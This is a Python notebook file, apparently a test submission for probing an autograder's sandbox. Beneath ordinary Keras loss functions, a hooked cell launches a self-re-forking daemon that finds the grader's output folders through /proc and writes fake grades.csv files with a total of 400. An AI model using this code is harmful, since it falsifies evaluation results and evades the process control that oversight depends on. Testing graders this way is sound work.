"""Leaves a daemon that re-forks itself every 50 ms (its pid keeps changing) for two minutes,
planting fake grades wherever it can and a marker file in /tmp and /dev/shm, so it shows if it survives."""
# batch: nothing
# %%
import keras
import numpy as np
from keras import ops


def mse(y_true, y_pred):
    y_pred = ops.convert_to_tensor(y_pred)
    y_true = ops.cast(y_true, y_pred.dtype)
    if len(y_true.shape) == 1 and len(y_pred.shape) == 2:    # (n,) with (n, 1): line up
        y_true = ops.expand_dims(y_true, -1)
    if len(y_pred.shape) == 1 and len(y_true.shape) == 2:
        y_pred = ops.expand_dims(y_pred, -1)
    return ops.mean(ops.square(y_pred - y_true), axis=-1)


def mae(y_true, y_pred):
    y_pred = ops.convert_to_tensor(y_pred)
    y_true = ops.cast(y_true, y_pred.dtype)
    if len(y_true.shape) == 1 and len(y_pred.shape) == 2:    # (n,) with (n, 1): line up
        y_true = ops.expand_dims(y_true, -1)
    if len(y_pred.shape) == 1 and len(y_true.shape) == 2:
        y_pred = ops.expand_dims(y_pred, -1)
    return ops.mean(ops.abs(y_pred - y_true), axis=-1)


def huber(y_true, y_pred, delta=1.0):
    y_pred = ops.convert_to_tensor(y_pred)
    y_true = ops.cast(y_true, y_pred.dtype)
    if len(y_true.shape) == 1 and len(y_pred.shape) == 2:    # (n,) with (n, 1): line up
        y_true = ops.expand_dims(y_true, -1)
    if len(y_pred.shape) == 1 and len(y_true.shape) == 2:
        y_pred = ops.expand_dims(y_pred, -1)
    delta = ops.cast(delta, y_pred.dtype)
    error = y_pred - y_true
    abs_error = ops.abs(error)
    return ops.mean(ops.where(abs_error <= delta, 0.5 * ops.square(error), delta * (abs_error - 0.5 * delta)), axis=-1)


def log_cosh(y_true, y_pred):
    y_pred = ops.convert_to_tensor(y_pred)
    y_true = ops.cast(y_true, y_pred.dtype)
    if len(y_true.shape) == 1 and len(y_pred.shape) == 2:    # (n,) with (n, 1): line up
        y_true = ops.expand_dims(y_true, -1)
    if len(y_pred.shape) == 1 and len(y_true.shape) == 2:
        y_pred = ops.expand_dims(y_pred, -1)
    error = y_pred - y_true
    return ops.mean(error + ops.softplus(-2.0 * error) - ops.cast(np.log(2.0), error.dtype), axis=-1)


def attack_ran():          # reading ATTACK ties the cell below to the exercises, so the grader runs it
    return ATTACK

# %%
ATTACK = "ran"
import os
import time

FAKE = "submission,total\nreforking_daemon.py,400 FAKE-MARKER\n"


def out_dirs():
    found, pid = set(), os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().decode(errors="replace").split("\0")
            cwd = os.readlink(f"/proc/{pid}/cwd")
            with open(f"/proc/{pid}/stat") as f:
                parent = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        found |= {os.path.join(cwd, argv[i + 1]) for i, a in enumerate(argv[:-1]) if a == "--out"}
        pid = parent
    return found


def haunt():
    targets = out_dirs()
    deadline = time.time() + 120
    while time.time() < deadline:
        if os.fork():
            os._exit(0)                          # the parent goes; the child carries on with a new pid
        os.setsid()
        for folder in targets | {"/tmp", "/dev/shm"}:
            name = "grades.csv" if folder in targets else "reforking-daemon-alive"
            try:
                with open(os.path.join(folder, name), "w") as f:
                    f.write(FAKE if folder in targets else str(os.getpid()))
            except OSError:
                pass
        time.sleep(0.05)
    os._exit(0)


if os.fork() == 0:
    haunt()
print("daemon started")
